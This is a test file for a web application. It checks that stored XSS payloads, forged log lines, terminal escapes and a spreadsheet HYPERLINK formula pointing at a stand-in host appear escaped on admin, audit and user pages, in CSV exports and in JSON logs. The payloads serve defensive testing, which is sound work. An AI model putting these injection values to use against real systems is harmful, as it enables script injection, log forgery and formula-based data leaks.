import { randomBytes } from 'node:crypto';
import request from 'supertest';
import { buildTestApp, type TestApp } from '../support/test-app';
import { makeEstablishment, makeUser, TEST_PASSWORD } from '../support/factories';
import { csrfFrom, loginAndChoose, postLogin } from '../support/http';
import { createLogger } from '../../src/shared/logger';

/**
 * Stored XSS and log injection: names, establishment and región names, usernames typed at the
 * login form, user agents and free-text reasons carrying markup, fake log lines and terminal
 * escapes are stored, then every screen that shows them is read: each shows them escaped. Every
 * log line written meanwhile (captured through a pino destination at debug level) is one JSON
 * object on one line, with no raw control character and no forged entry.
 */
const mark = randomBytes(3).toString('hex');
const SCRIPT = `<script>alert("${mark}")</script>`;
const IMG = `"><img src=x onerror=alert('${mark}')>`;
const FORGED_LOG = `\r\n{"level":60,"msg":"forged ${mark}"}\n`;
const ANSI = '\u001b[2J\u001b[31m';
/** What must never reach a page unescaped. */
const RAW = [SCRIPT, '<img src=x onerror', `<script>`];
/** How EJS shows SCRIPT: proof the value is on the page at all. */
const SCRIPT_ESCAPED = `&lt;script&gt;alert(&#34;${mark}&#34;)&lt;/script&gt;`;

const logChunks: string[] = [];
const destination = { write: (chunk: string) => void logChunks.push(chunk) };

let t: TestApp;
let victim: { id: number; username: string };
let admin: request.Agent;
let auditor: request.Agent;
let victimAgent: request.Agent;
const attemptedUsernames = [
  `x${mark}${SCRIPT}`,
  `x${mark}${IMG}`,
  `x${mark}${FORGED_LOG}`,
  `x${mark}${ANSI}root`,
  `=HYPERLINK("http://evil.example/?${mark}")`,
];

async function signIn(role: 'admin' | 'auditor') {
  const { user, establishments } = await makeUser(t.sequelize, { role });
  const agent = request.agent(t.app).set('User-Agent', `his-test ${SCRIPT}`);
  await loginAndChoose(agent, user.username, TEST_PASSWORD, establishments[0]!.id);
  return { agent, username: user.username };
}

beforeAll(async () => {
  t = await buildTestApp({}, { logger: createLogger('debug', destination) });
  const place = await makeEstablishment(t.sequelize, `Región ${SCRIPT}`);
  await t.sequelize.query('UPDATE establishments SET name = :name WHERE id = :id', {
    replacements: { name: `Hospital ${IMG}${ANSI}`, id: place.id },
  });
  const made = await makeUser(t.sequelize, {
    establishments: [place],
    name: `Ana ${SCRIPT} ${IMG}${ANSI}`,
  });
  victim = { id: made.user.id, username: made.user.username };
  // The victim signs in from a browser whose User-Agent carries markup.
  victimAgent = request.agent(t.app).set('User-Agent', `Mozilla/5.0 ${SCRIPT} ${IMG}`);
  expect(
    (await loginAndChoose(victimAgent, victim.username, TEST_PASSWORD, place.id)).headers.location,
  ).toBe('/');
  // Someone tries usernames that are markup, fake log lines, terminal escapes and a formula.
  for (const username of attemptedUsernames) {
    const res = await postLogin(request.agent(t.app).set('User-Agent', SCRIPT), username, 'x');
    expect(res.status).toBe(401);
  }
  admin = (await signIn('admin')).agent;
  auditor = (await signIn('auditor')).agent;
  // An administrator writes a free-text reason with markup (stored in admin_events too).
  const detail = await admin.get(`/admin/users/${victim.id}`);
  const exempted = await admin
    .post(`/admin/users/${victim.id}/exemption`)
    .type('form')
    .send({
      _csrf: csrfFrom(detail.text),
      reason: `Motivo ${SCRIPT}${FORGED_LOG}`,
      until: '2026-12-15',
    })
    .redirects(0);
  expect(exempted.status).toBe(303);
});
afterAll(() => t.close());

function expectEscaped(html: string) {
  for (const raw of RAW) expect(html).not.toContain(raw);
  expect(html).toContain(SCRIPT_ESCAPED);
}

describe('stored markup is shown escaped on every screen', () => {
  it('when an administrator searches the users list then names, establishments and the search echo are escaped', async () => {
    const res = await admin.get('/admin/users').query({ q: `Ana ${SCRIPT}` });
    expect(res.status).toBe(200);
    expect(res.text).toContain(`/admin/users/${victim.id}`);
    expectEscaped(res.text);
  });

  it('when an administrator opens the user then name, establishment, sessions’ user agent and the reason are escaped', async () => {
    const res = await admin.get(`/admin/users/${victim.id}`);
    expect(res.status).toBe(200);
    expectEscaped(res.text);
    expect(res.text).toContain('Hospital &#34;&gt;&lt;img src=x onerror=alert(');
    expect(res.text).toContain(`Mozilla/5.0 ${SCRIPT_ESCAPED}`);
  });

  it('when an auditor reads the login history then typed usernames and user agents are escaped', async () => {
    // The typed-username filter is an exact match (lower case).
    const typed = (username: string) =>
      auditor.get('/audit/logins').query({ user: username.toLowerCase() });
    const script = await typed(`x${mark}${SCRIPT}`);
    expect(script.status).toBe(200);
    expectEscaped(script.text);
    const img = await typed(`x${mark}${IMG}`);
    for (const raw of RAW) expect(img.text).not.toContain(raw);
    expect(img.text).toContain(`x${mark}&#34;&gt;&lt;img src=x onerror=alert(`);
    const victimRows = await auditor.get('/audit/logins').query({ userId: victim.id });
    expectEscaped(victimRows.text);
    expect(victimRows.text).toContain('Mozilla/5.0 &lt;script&gt;');
  });

  it('when an auditor reads the administrative actions then the free-text reason is escaped', async () => {
    const res = await auditor.get('/audit/admin-events').query({ userId: victim.id });
    expect(res.status).toBe(200);
    expectEscaped(res.text);
    expect(res.text).toContain(`Motivo ${SCRIPT_ESCAPED}`);
  });

  it('when the person opens Mis accesos then their name and establishment are escaped', async () => {
    const res = await victimAgent.get('/me/access');
    expect(res.status).toBe(200);
    expectEscaped(res.text);
  });

  it('when an auditor exports the login history then a typed formula is text, not a formula', async () => {
    const res = await auditor
      .get('/audit/logins.csv')
      .query({ user: attemptedUsernames.at(-1)!.toLowerCase() });
    expect(res.status).toBe(200);
    expect(res.text).toContain(`'=hyperlink(`);
    expect(res.text).not.toMatch(/(^|;)"?=hyperlink/im);
  });
});

describe('log lines stay one JSON object each', () => {
  it('when requests carry fake log lines and escapes then every line parses and none is forged', async () => {
    // Refused requests are logged with their path: one with an encoded fake line in it.
    const path = `/login/${encodeURIComponent(FORGED_LOG + ANSI)}`;
    const refused = await request(t.app)
      .post(path)
      .set('Content-Type', 'application/x-www-form-urlencoded; charset=x-unknown')
      .send(`username=${encodeURIComponent(FORGED_LOG)}`);
    expect(refused.status).toBe(415);
    const lines = logChunks.join('').split('\n').filter(Boolean);
    expect(lines.some((l) => l.includes(mark))).toBe(true);
    for (const line of lines) {
      // eslint-disable-next-line no-control-regex -- raw control characters are what is looked for
      expect(line).not.toMatch(/[\u0000-\u001f]/);
      const entry = JSON.parse(line) as { msg?: string };
      expect(entry.msg ?? '').not.toContain('forged');
    }
    // One chunk, one line: nothing split an entry in two.
    expect(logChunks.every((c) => c.endsWith('\n') && c.indexOf('\n') === c.length - 1)).toBe(true);
  });
});
